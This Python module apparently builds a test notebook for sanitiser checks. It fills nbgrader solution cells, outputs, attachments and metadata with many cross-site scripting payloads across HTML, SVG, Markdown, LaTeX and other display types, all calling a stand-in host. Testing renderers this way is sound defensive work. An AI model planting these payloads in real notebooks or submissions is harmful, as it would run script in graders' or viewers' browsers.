"""A notebook whose every part tries to run something, or to call out, in the browser of whoever looks at it."""

from __future__ import annotations

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

FAR = "http://far.example"
RUN = "window.gotcha = (window.gotcha || 0) + 1"
CALLS = f"{RUN}; fetch('{FAR}/fetched')"

HTML = (
    f"<script>{CALLS}</script>",
    f"<img src='{FAR}/pixel.png' onerror=\"{CALLS}\">",
    f'<img src=x onerror="{CALLS}">',
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{CALLS}\"><script>{CALLS}</script></svg>",
    f"<svg><animate attributeName=x dur=1s onbegin='{RUN}'/><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='{FAR}/frame'></iframe>",
    f"<object data='{FAR}/object'></object><embed src='{FAR}/embed'>",
    f"<meta http-equiv=refresh content='0;url={FAR}/refreshed'>",
    f"<base href='{FAR}/'><link rel=stylesheet href='{FAR}/style.css'><style>@import '{FAR}/imported.css'</style>",
    f"<style>body {{ background: url({FAR}/background.png) }}</style>",
    f"<form action='{FAR}/form'><input name=q autofocus onfocus=\"{CALLS}\"><button>Full credit</button></form>",
    f'<a href="javascript:{RUN}">resolve</a><details open ontoggle="{CALLS}">x</details>',
    f"<video src='{FAR}/film' onerror='{RUN}' autoplay></video><math><mtext><img src=x onerror='{RUN}'></mtext></math>",
    f"</pre></div></table></td></textarea></title></style><script>{CALLS}</script>",
    f"<noscript><p title='</noscript><script>{CALLS}</script>'></noscript><!--><script>{CALLS}</script>-->",
)
MARKDOWN = (
    *HTML,
    f"[full credit](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[ref]: javascript:{RUN}\n\n[ref]",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x]({FAR}/tracked.png) ![y][y]\n\n[y]: {FAR}/referred.png",
    "![gone](attachment:gone.png)",
    f'![x](x"onerror="{RUN})',
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\begin{{a}}<script>{RUN}</script>\\end{{a}}$$",
    f"```mermaid\ngraph TD; A[<img src=x onerror='{RUN}'>]\n```",
    f"```\n````\n`````\n<script>{RUN}</script>",
    f"~~~\n```\n~~~\n<script>{RUN}</script>",
    f"\n\n\n    <b>\n\n<script>{RUN}</script>",
)
BREAKS_OUT = f'"><script>{CALLS}</script>'
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
KINDS = (
    "text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/plain",
    "application/json", "application/pdf", "image/png", "image/jpeg", "application/vnd.plotly.v1+json",
    "text/vnd.mermaid", "application/xhtml+xml",
)  # fmt: skip


def outputs():
    """Give an output of every type that carries every attack."""
    yield new_output("stream", text="".join(HTML) + f"\x1b[31m\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07</pre>")
    yield new_output("stream", name="stderr", text=BREAKS_OUT)
    yield new_output("error", ename=BREAKS_OUT, evalue=BREAKS_OUT, traceback=[*HTML, f"\x1b[0;{BREAKS_OUT}m"])
    for kind in KINDS:
        for attack in (*HTML, BREAKS_OUT, CALLS) if kind != "application/json" else ():
            yield new_output("display_data", data={kind: attack}, metadata={kind: {"isolated": kind == "text/html"}})
            yield new_output("execute_result", data={kind: attack}, execution_count=1)
    sizes = {"image/png": {"width": BREAKS_OUT, "height": f"1 onerror={RUN}", "alt": BREAKS_OUT}}
    yield new_output("display_data", data={"image/png": "aGk="}, metadata=sizes)
    yield new_output("display_data", data={"image/png": "aGk="}, metadata={"filenames": {"image/png": f"{FAR}/p.png"}})
    yield new_output("display_data", data={WIDGET: {"model_id": "1", "version_major": 2, "x": "</script>" + HTML[0]}})


def hostile(notebook):
    """Fill a graded notebook with all of it: in answers, in cells of the student's own, in metadata."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code":
            cell.outputs = list(outputs())
        if marks.get("solution"):
            cell.source = "\n".join(HTML) if cell.cell_type == "code" else "\n\n".join(MARKDOWN)
            cell.metadata["tags"] = [BREAKS_OUT]
            cell.metadata["magics_language"] = BREAKS_OUT
        if marks.get("solution") and cell.cell_type == "markdown":
            cell.attachments = {
                f"a{BREAKS_OUT}.png": {"image/png": BREAKS_OUT},
                "b.svg": {"image/svg+xml": HTML[3]},
                "c.png": {"image/png": "iVBORw0KGgo="},
            }
    own = [new_markdown_cell(text) for text in MARKDOWN] + [nbformat.v4.new_raw_cell(text) for text in HTML]
    own += [new_code_cell(f"%%html\n{HTML[0]}", metadata={"magics_language": BREAKS_OUT, "alt": BREAKS_OUT})]
    for number, cell in enumerate(own, 1):
        cell.id = f"own-{len(notebook.cells)}-{number}"
    notebook.cells += own
    notebook.metadata["widgets"] = {STATE: {"state": {"1": {"model_name": "</script>" + HTML[0]}}}}
    notebook.metadata["language_info"] = {"name": BREAKS_OUT, "pygments_lexer": BREAKS_OUT}
    notebook.metadata["title"] = BREAKS_OUT
    return notebook
